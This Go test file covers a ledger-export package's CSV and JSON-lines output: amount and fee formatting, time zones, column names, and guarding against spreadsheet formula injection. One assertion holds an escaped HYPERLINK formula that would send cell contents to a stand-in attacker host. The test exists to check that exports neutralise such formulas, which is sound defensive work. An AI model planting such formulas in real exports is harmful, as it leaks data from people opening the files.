package export_test

import (
	"bytes"
	"encoding/csv"
	"os"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/qredo-go/qredo"
	"github.com/qredo-go/qredo/export"
)

// table exports entries as CSV and reads them back.
func table(t *testing.T, entries []qredo.LedgerEntry, opts ...export.Option) (rows []map[string]string) {
	t.Helper()
	var out bytes.Buffer
	_, err := newExport(t, &ledger{entries: entries, oldestFirst: true}, opts...).To(t.Context(), &out)
	require.NoError(t, err)
	cells, err := csv.NewReader(&out).ReadAll()
	require.NoError(t, err)
	for _, line := range cells[1:] {
		row := map[string]string{}
		for i, name := range cells[0] {
			row[name] = line[i]
		}
		rows = append(rows, row)
	}
	return rows
}

// TestNoFormulas exports texts that others have chosen: no cell is a formula, and figures stay figures.
func TestNoFormulas(t *testing.T) {
	data, err := os.ReadFile("testdata/formulas.json")
	require.NoError(t, err)
	var page qredo.LedgerPage
	require.NoError(t, qredo.Unmarshal(data, &page))
	page.Entries[0].Reference = "-5"
	page.Entries[0].Fees = -7
	row := table(t, page.Entries)[0]
	for name, cell := range row {
		if name == "fees" || name == "feesDecimal" {
			continue
		}
		assert.False(t, cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])), "%s: %q", name, cell)
	}
	assert.Equal(t, `'=HYPERLINK("http://attacker.example/?x="&A1,"Invoice")`, row["counterpartyName"])
	assert.Equal(t, "'-5", row["reference"])
	assert.Equal(t, []string{"-7", "-0.00000007"}, []string{row["fees"], row["feesDecimal"]})
	assert.Equal(t, "2026-11-28T19:03:07Z", row["timestamp"])
}

func TestFigures(t *testing.T) {
	entry := qredo.LedgerEntry{TxID: "t", Type: qredo.EntryTransferOut, Status: qredo.TxApproved, Asset: "BTC", Amount: 100_100, NetAmount: 100_000, Fees: 100}
	for name, c := range map[string]struct {
		change                 func(e *qredo.LedgerEntry)
		amount, moved, change2 string
	}{
		"what left":          {func(*qredo.LedgerEntry) {}, "0.001001", "-100100", "-0.001001"},
		"what came":          {func(e *qredo.LedgerEntry) { e.Type, e.Fees = qredo.EntrySwapIn, 0 }, "0.001001", "100100", "0.001001"},
		"what waits":         {func(e *qredo.LedgerEntry) { e.Status = qredo.TxTakerPending }, "0.001001", "0", "0"},
		"what was rejected":  {func(e *qredo.LedgerEntry) { e.Status = qredo.TxChainRejected }, "0.001001", "0", "0"},
		"a status not known": {func(e *qredo.LedgerEntry) { e.Status = "lost" }, "0.001001", "", ""},
		"a type not known":   {func(e *qredo.LedgerEntry) { e.Type = qredo.EntrySwap }, "0.001001", "", ""},
		"an asset not known": {func(e *qredo.LedgerEntry) { e.Asset = "NEW" }, "", "-100100", ""},
		"no power of ten":    {func(e *qredo.LedgerEntry) { e.Asset = "ODD" }, "", "-100100", ""},
		"less than nothing":  {func(e *qredo.LedgerEntry) { e.Amount = -1 }, "-0.00000001", "", ""},
		"a deposit": {func(e *qredo.LedgerEntry) {
			*e = qredo.LedgerEntry{Type: qredo.EntryDeposit, Asset: "BTC", Amount: 1, NetAmount: 1}
		}, "0.00000001", "1", "0.00000001"},
		"a transfer unstated": {func(e *qredo.LedgerEntry) { e.Status = "" }, "0.001001", "", ""},
	} {
		e := entry
		c.change(&e)
		row := table(t, []qredo.LedgerEntry{e})[0]
		assert.Equal(t, []string{c.amount, c.moved, c.change2}, []string{row["amountDecimal"], row["change"], row["changeDecimal"]}, name)
	}
}

func TestZones(t *testing.T) {
	berlin, err := time.LoadLocation("Europe/Berlin")
	require.NoError(t, err)
	row := table(t, []qredo.LedgerEntry{{Type: qredo.EntryDeposit, Time: qredo.Unix(1_600_000_000)}}, export.WithZone(berlin))[0]
	assert.Equal(t, "2020-09-13T12:26:40Z", row["timestamp"])
	assert.Equal(t, "2020-09-13T14:26:40+02:00", row["timestampLocal"])
	assert.Empty(t, row["expireTimeLocal"])
}

// TestColumns demands that CSV has all that an entry has, by the wire's names, and that JSON lines are read back.
func TestColumns(t *testing.T) {
	e := qredo.LedgerEntry{
		TxID: "t", Type: qredo.EntryWithdraw, Status: qredo.TxApproved, Asset: "BTC", Amount: 3, NetAmount: 2, Fees: 1, FundID: "f", WalletID: "w", Address: "a",
		CounterpartyID: "c", CounterpartyName: "<n>", Reference: "r", BenefitOf: "b", AccountNo: "n", ChainTxID: "x", Time: qredo.Unix(1), Expires: qredo.Unix(2),
	}
	row := table(t, []qredo.LedgerEntry{e})[0]
	v := reflect.ValueOf(e)
	for i := range v.NumField() {
		require.False(t, v.Field(i).IsZero(), v.Type().Field(i).Name)
		name, _, _ := strings.Cut(v.Type().Field(i).Tag.Get("json"), ",")
		assert.NotEmpty(t, row[name], name)
	}
	var out bytes.Buffer
	_, err := newExport(t, &ledger{entries: []qredo.LedgerEntry{e}}, export.WithFormat(export.JSONLines)).To(t.Context(), &out)
	require.NoError(t, err)
	var back qredo.LedgerEntry
	require.NoError(t, qredo.Unmarshal(out.Bytes(), &back))
	require.Equal(t, e, back)
}
